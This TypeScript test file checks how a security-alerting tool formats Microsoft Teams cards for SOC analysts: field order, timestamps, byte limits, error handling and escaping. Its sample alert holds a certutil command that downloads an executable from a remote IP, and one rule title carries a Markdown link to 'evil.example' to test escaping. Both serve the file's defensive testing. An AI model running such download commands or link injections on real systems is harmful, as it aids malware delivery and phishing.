import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { FakeClock } from '../../lab/clock/fake-clock.ts';
import {
  startTeamsReceiver,
  type TeamsCard,
  type TeamsReceiver,
  type TeamsReceiverOptions,
} from '../../lab/receivers/teams.ts';
import { messageOfOne } from '../../src/destinations/alert-view/single.ts';
import { createDestination } from '../../src/destinations/create.ts';
import { DestinationRefusedError, RowsRefusedError } from '../../src/destinations/errors.ts';
import type { Destination } from '../../src/destinations/port.ts';
import { teamsConfig } from '../../src/destinations/teams/config.ts';
import { messageCard, severalCard } from '../../src/destinations/teams/encode.ts';
import { readableTeams } from '../../src/destinations/teams/readable.ts';
import { nodeHttpClient } from '../../src/hosts/node/http.ts';
import { depsOf } from './deps.ts';
import { SAMPLES } from './message-samples.ts';
import { anyMessage, group } from './messages.ts';
import { alert, batchOf } from './samples.ts';

const signal = new AbortController().signal;
const MOST_BYTES = 28 * 1024;

/** All that a reader sees of a card, in order. */
function shown(card: TeamsCard): string {
  return card.body
    .map((block) =>
      block.type === 'TextBlock' ? block.text : block.inlines.map(({ text }) => text).join(''),
    )
    .join('\n');
}

describe('teams', () => {
  const closers: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const close of closers.splice(0)) await close();
  });

  async function open(
    receiverOver: TeamsReceiverOptions = {},
  ): Promise<{ destination: Destination; receiver: TeamsReceiver }> {
    const receiver = await startTeamsReceiver({ store: true, ...receiverOver });
    const clock = new FakeClock(Date.now(), { sleepPasses: true });
    const config = { type: 'teams', webhook_url: receiver.url, allow_networks: ['127.0.0.0/8'] };
    const destination = createDestination(
      'soc-teams',
      teamsConfig.parse(config),
      depsOf(nodeHttpClient, clock),
    );
    closers.push(() => destination.close(), receiver.close);
    return { destination, receiver };
  }

  it('answers an analyst’s questions in one card', async () => {
    const { destination, receiver } = await open();
    const made = alert(1, {
      event: { ...alert(1).event, AlertId: 'da637551227677560813_-961444813' },
    });
    await destination.send(batchOf(destination, [made]), signal);
    const [card] = receiver.received;
    const text = card ? shown(card) : '';
    for (const part of [
      '🟠 HIGH  Download with certutil',
      '**When**  {{DATE(2026-11-23T07:01:02Z, SHORT)}} {{TIME(2026-11-23T07:01:02Z)}} (2026-11-23 07:01:02 UTC)',
      'Host  ws-042.contoso.example',
      'User  alice@contoso.example',
      '• FileName: certutil.exe',
      'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      'certutil fetches a file',
      '• Certificate roll-outs',
      `event ${made.id}`,
    ]) {
      expect(text).toContain(part);
    }
    expect(JSON.stringify(card?.body)).toContain('https://attack.mitre.org/techniques/T1105/');
    expect(card?.actions?.map(({ title }) => title)).toContain('Alert');
  });

  it('makes one card of many alerts, the gravest first', () => {
    const many = Array.from({ length: 20 }, (_, at) =>
      alert(at, {
        severity: at < 3 ? 'critical' : 'low',
        rule: { title: at < 3 ? 'Mimikatz [x](https://evil.example)' : `Rule ${at % 4}` },
      }),
    );
    const [heading, first] = shown(
      JSON.parse(severalCard(many.map(messageOfOne))).attachments[0].content,
    ).split('\n');
    expect(heading).toBe('🔴 CRITICAL  20 alerts');
    expect(first).toBe(
      '🔴 CRITICAL  Mimikatz [x](https://evil.example)  ×3  ws-042.contoso.example ×3  Device  Hunt: all of these',
    );
  });

  it.each([
    [400, 'TriggerInputSchemaMismatch', DestinationRefusedError],
    [400, 'InvalidRequestContent', RowsRefusedError],
    [401, 'AuthorizationFailed', DestinationRefusedError],
    [404, 'WorkflowNotFound', DestinationRefusedError],
  ])('takes %i %s as its kind of refusal', async (status, code, kind) => {
    const body = JSON.stringify({ error: { code, message: 'no' } });
    const { destination } = await open({
      fault: ({ number }) => (number === 2 ? { status, body } : undefined),
    });
    const sent = destination.send(batchOf(destination, [alert(1), alert(2)]), signal);
    await expect(sent).rejects.toBeInstanceOf(kind);
  });

  it('wants an address that has its signature', () => {
    const old = { type: 'teams', webhook_url: 'https://contoso.webhook.office.com/webhookb2/x' };
    expect(() => teamsConfig.parse(old)).toThrow(/with its `sig`/);
  });
});

const COLUMNS =
  'DeviceName DeviceId AccountUpn FileName InitiatingProcessFileName ProcessCommandLine ActionType RemoteUrl RegistryKey SenderFromAddress RecipientEmailAddress Subject Application Title AlertId SHA256 AccountSid'.split(
    ' ',
  );
const LINKS = {
  Splunk: 'https://splunk.example/search?q=host%3D{host}%20rule%3D{rule}',
  Wiki: `https://wiki.example/${'x'.repeat(1_500)}`,
};

const TIME = '\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d';
const LOCAL = '\\{\\{DATE\\([\\dTZ:-]+, SHORT\\)\\}\\} \\{\\{TIME\\([\\dTZ:-]+\\)\\}\\}';
const TIMES = new RegExp(
  `^\\*\\*(?:When|Since|Until)\\*\\*  ${LOCAL}(?: to ${LOCAL})? \\(${TIME}(?: to ${TIME})? UTC\\)$`,
);

describe('a card for Teams', () => {
  it('says each thing once, in the order in which an analyst asks', () => {
    const [first] = (SAMPLES.single ?? { messages: [] }).messages;
    const message = first?.kind === 'alert' ? first : group(1);
    const card = shown(JSON.parse(messageCard(message, LINKS)).attachments[0].content);
    const labels = card
      .split('\n')
      .flatMap((line) => /^(?:\*\*)?([A-Z][\w& ]+?)(?:\*\*)? {2}/.exec(line)?.[1] ?? []);
    expect(labels).toEqual(['Host', 'User', 'When', 'Process', 'Started by', 'Table', 'ATT&CK']);
  });

  it('is text for a terminal, with times in its zone and addresses behind links', () => {
    const text = readableTeams(JSON.parse(messageCard(messageOfOne(alert(1)), LINKS))) ?? '';
    expect(text).toMatch(/^🟠 HIGH {2}Download with certutil\n=+\n/u);
    expect(text).toMatch(/^When {2}\w{3}, Nov 2[23], 2026 \d{1,2}:01 [AP]M \(2026-11-23 07:01:02 UTC\)$/m);
    expect(text).toMatch(/^Device <https:\/\/security\.microsoft\.com\//m);
    expect(text).not.toMatch(/\{\{|\*\*|TextRun/);
    expect(readableTeams({ text: 'no card' })).toBeUndefined();
  });

  it('is one that Teams takes whatever a message holds, and shows nothing as Markdown', async () => {
    const receiver = await startTeamsReceiver({ store: true });
    const post = (body: string) => fetch(receiver.url, { method: 'POST', body });
    await fc.assert(
      fc.asyncProperty(fc.array(anyMessage, { minLength: 1, maxLength: 25 }), async (messages) => {
        const [first = group(1)] = messages;
        for (const body of [messageCard(first, LINKS), severalCard(messages, LINKS)]) {
          expect(Buffer.byteLength(body)).toBeLessThanOrEqual(MOST_BYTES);
          const reply = await post(body);
          expect([reply.status, await reply.text()]).toEqual([202, '']);
          const card = receiver.received.at(-1);
          for (const block of card?.body ?? []) {
            // What a row says stands in runs; a block of text has the times that we wrote, and nothing else.
            if (block.type === 'TextBlock') expect(block.text).toMatch(TIMES);
            else expect(JSON.stringify(block.inlines)).not.toMatch(/\{\{|[\u202e\u{e0041}]/u);
          }
          for (const { url } of card?.actions ?? [])
            expect(url).toMatch(/^https:\/\/(?:security\.microsoft\.com|splunk\.example|wiki\.example)\//);
        }
      }),
      { numRuns: 60 },
    );
    await receiver.close();
  });

  it('is one that Teams takes when it stands for many groups of long titles, with a page for each title and queries for the gravest', () => {
    const wide = '€'.repeat(500);
    const many = Array.from({ length: 200 }, (_, at) =>
      messageOfOne(
        alert(at, {
          rule: { title: `${at % 15} ${wide}` },
          event: { DeviceId: 'd1', DeviceName: `${at}${wide}` },
        }),
      ),
    );
    const text = severalCard(many);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MOST_BYTES);
    expect(text.split('https://security.microsoft.com/machines/v2/d1').length - 1).toBe(15);
    expect(text).toContain('https://security.microsoft.com/v2/advanced-hunting?');
  });

  it('is whole where it is small, and cut where every part is long', () => {
    const long = 'x'.repeat(5_000);
    const event = Object.fromEntries(COLUMNS.map((column) => [column, long]));
    const card = messageCard(messageOfOne(alert(1, { event })));
    expect(card).toContain(`${'x'.repeat(1_199)}…`);
    const wide = '€'.repeat(5_000);
    const matched = Array.from({ length: 12 }, () => ({ column: wide, value: wide }));
    const rule = { title: wide, description: wide, falsepositives: [wide, wide, wide, wide], matched };
    const full = messageCard(
      messageOfOne(alert(1, { rule, event: Object.fromEntries(COLUMNS.map((column) => [column, wide])) })),
    );
    expect(full).toContain(`${'€'.repeat(599)}…`);
    expect(Buffer.byteLength(full)).toBeLessThanOrEqual(MOST_BYTES);
  });
});
